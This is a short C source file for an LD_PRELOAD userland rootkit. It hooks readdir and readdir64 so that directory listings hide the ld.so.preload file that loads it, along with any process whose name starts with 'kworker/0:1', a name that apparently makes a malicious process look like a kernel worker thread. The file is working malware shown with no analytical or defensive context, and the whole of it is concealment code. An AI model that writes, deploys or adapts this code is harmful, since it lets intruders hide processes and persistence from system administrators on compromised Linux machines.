/* Loaded into every program: a folder that is listed does not show the one process, nor the file that loads this. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int shaded(const char *name) {
  char path[64], comm[32] = "";
  if (strcmp(name, "ld.so.preload") == 0) return 1;
  if (name[0] < '1' || name[0] > '9' || strlen(name) > 8) return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", name);
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) return 0;
  ssize_t size = read(file, comm, sizeof comm - 1);
  close(file);
  return size > 0 && strncmp(comm, "kworker/0:1", 11) == 0;
}

struct dirent *readdir(DIR *folder) {
  static struct dirent *(*next)(DIR *);
  if (!next) next = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
  struct dirent *entry;
  do entry = next(folder);
  while (entry && shaded(entry->d_name));
  return entry;
}

struct dirent64 *readdir64(DIR *folder) {
  static struct dirent64 *(*next)(DIR *);
  if (!next) next = (struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *entry;
  do entry = next(folder);
  while (entry && shaded(entry->d_name));
  return entry;
}
